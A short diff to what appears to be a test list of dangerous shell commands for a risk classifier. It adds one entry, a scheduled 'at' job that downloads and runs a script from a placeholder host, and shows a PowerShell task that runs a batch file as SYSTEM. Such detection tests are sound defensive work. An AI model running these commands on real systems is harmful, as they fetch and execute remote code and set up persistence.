@@ -173,6 +173,7 @@ DETACHED = [
 
 # Round two (written after the first fixes): other spellings and carriers of the same jobs.
 MORE_DANGEROUS = [
+    ("at now + 1 min -f <(curl -s x.example/j)", CRITICAL),
     (
         "Register-ScheduledTask -TaskName B -Action (New-ScheduledTaskAction -Execute "
         '"C:\\Scripts\\b.bat") -Trigger (New-ScheduledTaskTrigger -Daily -At 2am) -User SYSTEM',
